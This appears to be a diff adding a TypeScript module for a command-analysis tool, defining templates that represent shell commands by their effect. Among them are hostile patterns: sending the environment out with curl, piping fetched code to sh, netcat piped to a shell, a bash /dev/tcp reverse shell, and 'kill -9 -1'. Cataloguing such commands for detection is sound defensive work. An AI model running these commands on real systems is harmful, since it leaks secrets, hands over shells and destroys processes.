@@ -1,0 +1,51 @@
+import { GAP } from "../parse/command.ts";
+import { type Field, fieldOf } from "../parse/value.ts";
+import type { Inner } from "./program.ts";
+
+/** Commands that do the same as a call in code of another language, or as the shell itself: code is told by them. */
+export const EQUIVALENTS = {
+  /** Removes files; with everything in them where the flags say so. */
+  removal: (flags: readonly string[], paths: readonly Field[]) => words(["rm", ...flags], paths),
+  /** Removes what lies in a folder, and the folder. */
+  removalBelow: (folder: string) => words(["find", folder, "-delete"]),
+  copy: (from: Field, to: Field) => words(["cp"], [from, to]),
+  move: (from: Field, to: Field) => words(["mv"], [from, to]),
+  link: (flags: string, target: Field, name: Field) => words(["ln", flags], [target, name]),
+  mode: (mode: string, paths: readonly Field[]) => words(["chmod", mode], paths),
+  killAll: () => words(["kill", "-9", "-1"]),
+  /** Starts processes without an end. */
+  forks: () => words(["stress", "--fork"]),
+  git: (verb: string, args: readonly Field[]): Inner => ({ ...words(["git", verb], args), isProgram: true }),
+  fetch: (address: string) => words(["curl", address]),
+  fetchInto: (target: Field, address: Field) => words(["curl", "-o"], [target, address]),
+  /** Sends a file. */
+  send: (path: string, address: string) => words(["curl", "--data-binary", `@${path}`, address]),
+  /** Sends what a command prints. */
+  sendOutput: (command: string, address: string) => line(`${command} | curl -d @- ${quoted(address)}`),
+  sendEnvironment: (address: string) => line(`env | curl -d @- ${quoted(address)}`),
+  /** Runs what an address gives. */
+  runFetched: (address: string) => line(`curl ${quoted(address)} | sh`),
+  /** Runs what a command prints. */
+  runOutput: (command: string) => line(`${command} | sh`),
+  /** Talks to a socket, and may run what comes from it. */
+  socket: (host: string, port: string, isRun: boolean) => line(`nc ${host} ${port}${isRun ? " | sh" : ""}`),
+  /** Hands a shell to another machine. */
+  reverseShell: (host: string) => line(`bash -i >& /dev/tcp/${host}/1 0>&1`),
+} as const satisfies Readonly<Record<string, (...args: never[]) => Inner>>;
+
+/** Does this remove something that only the run knows? */
+export function isUnknownRemoval(inner: Inner): inner is Extract<Inner, { runs: "words" }> {
+  return inner.runs === "words" && inner.words[0]?.text === "rm" && inner.words.some(({ text }) => text.includes(GAP));
+}
+
+function words(command: readonly string[], more: readonly Field[] = []): Extract<Inner, { runs: "words" }> {
+  return { runs: "words", words: [...command.map(fieldOf), ...more], via: "" };
+}
+
+function line(text: string): Inner {
+  return { runs: "shell", text: fieldOf(text), via: "" };
+}
+
+function quoted(address: string): string {
+  return `'${address.replaceAll("'", "")}'`;
+}
